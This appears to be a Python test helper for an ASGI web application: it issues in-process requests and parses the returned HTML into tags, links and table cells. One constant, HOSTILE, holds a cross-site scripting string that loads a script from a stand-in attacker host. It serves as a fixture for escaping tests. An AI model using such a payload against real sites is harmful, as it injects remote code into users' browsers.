"""Asks the application as a browser would, without a port; and reads the pages that it answers with."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Mapping
from dataclasses import dataclass, field
from html.parser import HTMLParser
from typing import Any
from urllib.parse import unquote, urlsplit

from starlette.types import ASGIApp

HOSTILE = '"><script src=//evil.example/x.js></script>'
"""A title, version and host of one of the results: it must not leave its place on a page."""
VOID = {"meta", "br", "hr", "img", "link", "input", "wbr"}


@dataclass(frozen=True)
class Answer:
    """What the application answered."""

    status: int
    headers: Mapping[str, str]
    body: bytes

    @property
    def text(self) -> str:
        """The body with plain spaces, which may be no-break ones between figures and their units."""
        return self.body.decode().replace("\N{NO-BREAK SPACE}", " ")

    @property
    def kind(self) -> str:
        return self.headers.get("content-type", "").partition(";")[0]

    def json(self) -> Any:
        return json.loads(self.body)


def ask(
    app: ASGIApp,
    address: str,
    *,
    method: str = "GET",
    headers: Mapping[str, str] | None = None,
    body: bytes = b"",
) -> Answer:
    """The answer to one request. Without headers it is one for `localhost`."""
    return asyncio.run(_ask(app, address, method, {"host": "localhost", **(headers or {})}, body))


async def _ask(app: ASGIApp, address: str, method: str, headers: Mapping[str, str], body: bytes) -> Answer:
    parts = urlsplit(address)
    scope: dict[str, Any] = {
        "type": "http",
        "asgi": {"version": "3.0", "spec_version": "2.4"},
        "http_version": "1.1",
        "method": method,
        "scheme": "http",
        "path": unquote(parts.path),
        "raw_path": parts.path.encode(),
        "query_string": parts.query.encode(),
        "root_path": "",
        "headers": [(name.lower().encode(), value.encode()) for name, value in headers.items()],
        "client": ("127.0.0.1", 1),
        "server": ("localhost", 80),
    }
    status, found, content = 0, {}, bytearray()

    async def receive() -> dict[str, Any]:
        return {"type": "http.request", "body": body, "more_body": False}

    async def send(message: Any) -> None:
        nonlocal status, found
        if message["type"] == "http.response.start":
            status = message["status"]
            found = {name.decode(): value.decode() for name, value in message["headers"]}
        else:
            content.extend(message.get("body", b""))

    await app(scope, receive, send)
    return Answer(status, found, bytes(content))


@dataclass
class Cell:
    """A cell of a table: its text, the number behind it, and where it leads."""

    text: str = ""
    values: list[float] = field(default_factory=list)
    links: list[str] = field(default_factory=list)


class Seen(HTMLParser):
    """What is on a page. Raises on tags that do not nest."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.ids: list[str] = []
        self.links: list[str] = []
        self.attributes: set[str] = set()
        self.tags: set[str] = set()
        self.tables: dict[str, list[list[Cell]]] = {}
        self.words = ""
        self._table = ""
        self._cell: Cell | None = None
        self.feed(html)
        self.close()
        assert not self.open, self.open

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {key: value or "" for key, value in attrs}
        self.tags.add(tag)
        self.attributes |= given.keys()
        if "id" in given:
            self.ids.append(given["id"])
            if given["id"].startswith(("table-", "chart-")):  # a chart has its records as a table
                self._table = given["id"].removeprefix("table-")
        links = [given[key] for key in ("href", "src", "xlink:href", "action") if key in given]
        self.links += links
        if tag not in VOID:
            self.open.append(tag)
        if tag == "tr":
            self.tables.setdefault(self._table, []).append([])
        if tag in ("td", "th"):
            self._cell = Cell()
            self.tables[self._table][-1].append(self._cell)
        elif self._cell is not None:
            self._cell.links += links
            if tag == "data":
                self._cell.values.append(float(given["value"]))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag not in VOID:
            self.handle_endtag(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open
        assert self.open.pop() == tag, tag
        if tag in ("td", "th"):
            self._cell = None

    def handle_data(self, data: str) -> None:
        self.words += data
        if self._cell is not None:
            self._cell.text = " ".join(f"{self._cell.text} {data}".split())
